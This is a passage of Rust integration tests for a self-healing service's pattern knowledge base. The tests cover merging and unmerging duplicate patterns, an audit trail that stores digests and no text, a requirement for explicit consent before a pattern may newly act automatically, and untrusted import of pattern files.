    assert_eq!((name.as_str(), &shown["kept"]), ("stale-cache", &json!(true)));
    assert!(shown["document"].as_str().is_some_and(|text| text.starts_with("# Ada's") && text.contains("Stale cache")));
    assert_eq!((&accepted["status"], &accepted["root_cause"]), (&json!("active"), &json!("The cache is stale.")));
    assert_eq!((&accepted["auto_healable"], &accepted["confidence"]["value"]), (&json!(false), &json!(0.5)));
    let error = client.post::<Value>(&accept, &body(json!({}))).await.expect_err("refused");
    assert_eq!(problem(error).code, "not_found");
    // The same rule again is found by the review, merged, and the merge undone.
    let rule = accepted["rule"][0].as_str().and_then(|rule| rule.strip_prefix("regex ")).expect("a rule").to_owned();
    let twin = json!({
        "name": "Twin", "root_cause": "x", "rule": rule, "action": "service.restart",
        "project": accepted["project"], "service": accepted["service"],
    });
    let _: PatternView = client.put("/api/v1/patterns/twin", &twin).await.expect("added");
    let review: Value = client.get("/api/v1/knowledge/review").await.expect("reviewed");
    assert_eq!(review["duplicates"][0]["why"], "their rules are the same");
    assert_eq!((&review["duplicates"][0]["merge"], &review["duplicates"][0]["against"]), (&json!("twin"), &json!([])));
    let merge = |dry_run: bool| json!({ "merged": "twin", "into": name, "dry_run": dry_run });
    let dry: Value = client.post("/api/v1/knowledge/merge", &merge(true)).await.expect("said");
    assert_eq!(dry["dry_run"], true);
    let _: Value = client.post("/api/v1/knowledge/merge", &merge(false)).await.expect("merged");
    let twin: PatternView = client.get("/api/v1/patterns/twin").await.expect("there");
    assert_eq!(twin.status, selfheal_core::knowledge::PatternStatus::Disabled);
    let evidence: Value = client.get("/api/v1/patterns/twin/evidence").await.expect("read");
    assert_eq!(evidence["merged_into"], json!(name));
    let review: Value = client.get("/api/v1/knowledge/review").await.expect("reviewed");
    assert_eq!(review["duplicates"], json!([]));
    let back: Value = client.post("/api/v1/knowledge/unmerge", &json!({ "merged": "twin" })).await.expect("undone");
    assert_eq!(back["status"], "active");
    let error =
        client.post::<Value>("/api/v1/knowledge/unmerge", &json!({ "merged": "twin" })).await.expect_err("once");
    assert_eq!(problem(error).code, "cannot_unmerge");
    // What cannot be undone any more leaves a way back: the merged one alone.
    let _: Value = client.post("/api/v1/knowledge/merge", &merge(false)).await.expect("merged");
    let edit = json!({ "name": accepted["name"], "description": "edited since" });
    let _: PatternView = client.put(&format!("/api/v1/patterns/{name}"), &edit).await.expect("edited");
    let error = client.post::<Value>("/api/v1/knowledge/unmerge", &json!({ "merged": "twin" })).await.expect_err("no");
    let problem_now = problem(error);
    assert!(problem_now.why.contains("edited since") && problem_now.next.contains("enable twin"), "{problem_now:?}");
    let on = json!({ "active": true });
    let twin: PatternView = client.post("/api/v1/patterns/twin/status", &on).await.expect("enabled");
    assert_eq!(twin.status, selfheal_core::knowledge::PatternStatus::Active);
    let evidence: Value = client.get("/api/v1/patterns/twin/evidence").await.expect("read");
    assert_eq!(evidence["merged_into"], Value::Null);
    let page: AuditPage = client.get("/api/v1/audit").await.expect("listed");
    let seen: Vec<&str> = page.entries.iter().rev().map(|entry| entry.event_type.as_str()).collect();
    // The trail holds digests and names of fields, and no lines.
    let edited = page.entries.iter().find(|entry| entry.event_type == "knowledge.edited").expect("edited");
    assert_eq!(edited.details["changed"], json!(["description"]));
    assert!(edited.details["before_digest"].is_string() && edited.details["before"].is_null(), "{:?}", edited.details);
    for event in [
        "learning.confirmed",
        "learning.drafted",
        "learning.draft_accepted",
        "knowledge.merged",
        "knowledge.unmerged",
        "knowledge.enabled",
    ] {
        assert!(seen.contains(&event), "{event} is not in {seen:?}");
    }
}

#[tokio::test]
async fn nothing_may_newly_act_unless_somebody_says_so() {
    let place = place().await;
    let client = Client::in_process(&place.app);
    let path = "/api/v1/patterns/stale";
    let pattern = json!({ "name": "Stale", "root_cause": "x", "rule": "lease is stale", "action": "service.restart" });
    let put = async |change: Value| {
        let mut body = pattern.clone();
        body.as_object_mut().expect("an object").extend(change.as_object().cloned().unwrap_or_default());
        client.put::<PatternView>(path, &body).await.map_err(|error| problem(error).code)
    };
    put(json!({})).await.expect("it cannot act");
    let refused = |saved: Result<PatternView, String>| assert_eq!(saved.err().as_deref(), Some("would_act"));
    refused(put(json!({ "auto_healable": true })).await);
    assert!(!put(json!({})).await.expect("nothing was changed").auto_healable);
    put(json!({ "auto_healable": true, "may_act": true })).await.expect("somebody said so");
    // It acts on more, in another way, or more often.
    refused(put(json!({ "rule": "stale" })).await);
    refused(put(json!({ "confidence": 0.9 })).await);
    refused(put(json!({ "action": "cache.clear" })).await);
    put(json!({ "confidence": 0.4, "description": "less" })).await.expect("it acts on less");
    // What the change would have meant is said as for a document.
    let change = json!({ "pattern": "stale", "change": { "name": "Stale", "confidence": 0.9 } });
    let replayed: Value = client.post("/api/v1/knowledge/replay", &change).await.expect("replayed");
    assert_eq!(replayed["newly_automatic"], 0);
    // Out of matching and back: putting it back lets it act.
    let off: PatternView = client.post(&format!("{path}/status"), &json!({ "active": false })).await.expect("off");
    assert_eq!(off.status, selfheal_core::knowledge::PatternStatus::Disabled);
    let error = client.post::<Value>(&format!("{path}/status"), &json!({ "active": true })).await.expect_err("no");
    assert_eq!(problem(error).code, "would_act");
    let on = json!({ "active": true, "may_act": true });
    let _: PatternView = client.post(&format!("{path}/status"), &on).await.expect("on");
    // The trail names what changed and holds no text of it.
    let page: AuditPage = client.get("/api/v1/audit").await.expect("listed");
    let events: Vec<&str> = page.entries.iter().map(|entry| entry.event_type.as_str()).collect();
    assert!(events.contains(&"knowledge.disabled") && events.contains(&"knowledge.enabled"), "{events:?}");
    assert!(!serde_json::to_string(&page).expect("JSON").contains("lease is stale"));
}

#[tokio::test]
async fn the_homes_folder_brings_no_trust_and_nothing_back() {
    let folder = tempfile::tempdir().expect("a folder");
    let home = Home::new(folder.path());
    home.init().expect("made");
    let foreign = "patterns:\n- name: Stale lease\n  rule: { any: [{ regex: lease is stale }] }\n  root_cause: x\n  \
                   action: { kind: service.restart }\n  confidence: 1.0\n  auto_healable: true\n";
    std::fs::write(home.knowledge().join("ours.yaml"), foreign).expect("written");
    std::fs::write(home.knowledge().join("broken.yaml"), "patterns: [").expect("written");
    std::fs::write(home.knowledge().join("bytes.yaml"), [0xff, 0xfe]).expect("written");
    let app = App::open(AppOptions::new(home)).await.expect("opens");
    let added = app.add_knowledge().await.expect("the other files are taken in");
    assert!(added.patterns > 400, "{added:?}");
    assert_eq!(added.problems.len(), 2, "{added:?}");
    assert!(
        added.problems[0].starts_with("broken.yaml: ") && added.problems[1].starts_with("bytes.yaml: "),
        "{added:?}"
    );
    let client = Client::in_process(&app);
    let stale: PatternView = client.get("/api/v1/patterns/stale-lease").await.expect("there");
    assert!(!stale.auto_healable && stale.origin == "import", "{stale:?}");
    assert!((stale.confidence.value - 0.6).abs() < 1e-9, "{stale:?}");
    let shipped: PatternView = client.get("/api/v1/patterns/file-system-full").await.expect("there");
    assert_eq!(shipped.origin, "starter");
    for id in ["stale-lease", "file-system-full"] {
        let _: Value = client.delete(&format!("/api/v1/patterns/{id}")).await.expect("removed");
    }
    assert_eq!(app.add_knowledge().await.expect("looked at again").patterns, 0);
    client.get::<PatternView>("/api/v1/patterns/file-system-full").await.expect_err("it stays away");
    // What a program brings along itself says what it may do, and does not come back either.
    assert_eq!(app.add_shipped("demo.yaml", &foreign.replace("Stale lease", "Staler")).await.expect("added"), 1);
    let staler: PatternView = client.get("/api/v1/patterns/staler").await.expect("there");
    assert!(staler.auto_healable);
    assert_eq!(app.add_shipped("demo.yaml", foreign).await.expect("looked at"), 0);
}
